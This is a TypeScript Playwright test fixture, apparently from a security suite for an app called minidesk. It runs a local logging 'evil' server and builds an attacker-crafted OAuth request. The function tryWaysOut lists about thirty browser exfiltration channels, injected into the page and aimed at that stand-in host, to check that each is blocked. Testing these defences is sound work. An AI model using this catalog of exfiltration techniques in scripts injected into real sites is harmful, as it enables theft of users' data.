/** What the attacks stand on: a server elsewhere that writes down whoever comes, with pages of its own. */
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from '@playwright/test'
import { test as base } from './desk'

export interface Evil {
  /** Another site than the desk's. */
  readonly origin: string
  /** Method and path of everything that arrived, upgrades to WebSockets included. */
  readonly seen: readonly string[]
}

export const test = base.extend<{ evil: Evil }>({
  refusals: true,
  failedLoads: true,
  evil: async ({ browserName: _ }, use) => {
    const seen: string[] = []
    const server = createServer((request, response) => {
      const { method, url = '/' } = request
      if (url !== '/favicon.ico') seen.push(`${method} ${url}`)
      const headers = { 'content-type': 'text/html', 'access-control-allow-origin': '*' }
      response.writeHead(200, headers).end('<!doctype html><title>Elsewhere</title>')
    })
    server.on('upgrade', ({ url }, socket) => {
      seen.push(`WebSocket ${url}`)
      socket.destroy()
    })
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    const { port } = server.address() as AddressInfo
    await use({ origin: `http://127.0.0.1:${port}`, seen })
    server.closeAllConnections()
    server.close()
  },
})

/** An authorization request of the attacker's own, for the desk's own client. */
export function ownFlow(login: string, redirectUri: string): string {
  const url = new URL('/oauth/authorize', login)
  url.search = `${new URLSearchParams({
    client_id: 'minidesk-local',
    response_type: 'code',
    redirect_uri: redirectUri,
    state: 'attack',
    code_challenge: 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM',
    code_challenge_method: 'S256',
  })}`
  return url.href
}

/**
 * Runs in the page, as an injected script would: tries every way out, each by its name. What throws is
 * refused; what does not has been tried.
 */
export async function tryWaysOut(page: Page, origin: string): Promise<readonly string[]> {
  return page.evaluate(async (to) => {
    const add = (
      name: string,
      props: Record<string, string>,
      more?: (node: HTMLElement) => void,
    ) => {
      const node = document.createElement(name)
      for (const [key, value] of Object.entries(props)) node.setAttribute(key, value)
      document.body.append(node)
      more?.(node)
    }
    const blob = (text: string) =>
      URL.createObjectURL(new Blob([text], { type: 'text/javascript' }))
    const call = `fetch('${to}/worker', { mode: 'no-cors' })`
    const ways: Record<string, () => unknown> = {
      fetch: () => fetch(`${to}/fetch`),
      'fetch without CORS': () => fetch(`${to}/no-cors`, { mode: 'no-cors', method: 'POST' }),
      keepalive: () => fetch(`${to}/keepalive`, { keepalive: true, mode: 'no-cors' }),
      XMLHttpRequest: () => {
        const request = new XMLHttpRequest()
        request.open('POST', `${to}/xhr`)
        request.send('x')
      },
      WebSocket: () => new WebSocket(`${to.replace('http', 'ws')}/socket`),
      EventSource: () => new EventSource(`${to}/events`),
      sendBeacon: () => navigator.sendBeacon(`${to}/beacon`, 'x'),
      image: () => {
        new Image().src = `${to}/image`
      },
      media: () => add('video', { src: `${to}/video` }),
      style: () => add('link', { rel: 'stylesheet', href: `${to}/style` }),
      prefetch: () => add('link', { rel: 'prefetch', href: `${to}/prefetch` }),
      preload: () => add('link', { rel: 'preload', as: 'image', href: `${to}/preload` }),
      icon: () => add('link', { rel: 'icon', href: `${to}/icon` }),
      manifest: () => add('link', { rel: 'manifest', href: `${to}/manifest` }),
      'style of an element': () => {
        document.body.style.backgroundImage = `url(${to}/background)`
      },
      'style sheet made of text': () => {
        const sheet = new CSSStyleSheet()
        sheet.replaceSync(`body { border-image: url(${to}/sheet) }`)
        document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]
      },
      font: () => new FontFace('x', `url(${to}/font)`).load(),
      script: () => add('script', {}, (node) => Object.assign(node, { src: `${to}/script` })),
      import: () => import(/* @vite-ignore */ `${to}/module`),
      frame: () => add('iframe', { src: `${to}/frame` }),
      object: () => add('object', { data: `${to}/object` }),
      form: () =>
        add('form', { action: `${to}/form`, method: 'post' }, (node) =>
          (node as HTMLFormElement).submit(),
        ),
      ping: () => add('a', { href: '#', ping: `${to}/ping` }, (node) => node.click()),
      base: () =>
        add('base', { href: `${to}/base/` }, () => {
          new Image().src = 'image'
        }),
      'frame of HTML': () => add('iframe', { srcdoc: `<img src="${to}/srcdoc">` }),
      'frame of a blob': () => {
        const html = new Blob([`<img src="${to}/blob">`], { type: 'text/html' })
        add('iframe', { src: URL.createObjectURL(html) })
      },
      'HTML made of text': () => {
        document.body.innerHTML += `<img src="${to}/html">`
      },
      'worker of a blob': () => new Worker(blob(call)),
      'shared worker of a blob': () => new SharedWorker(blob(call)),
      'service worker': () => navigator.serviceWorker.register(`${to}/service`),
      'code made of text': () => Reflect.construct(Function, [call])(),
    }
    const thrown: string[] = []
    for (const [name, way] of Object.entries(ways)) {
      try {
        await Promise.race([way(), new Promise((done) => setTimeout(done, 300))])
      } catch {
        thrown.push(name)
      }
    }
    return thrown
  }, origin)
}
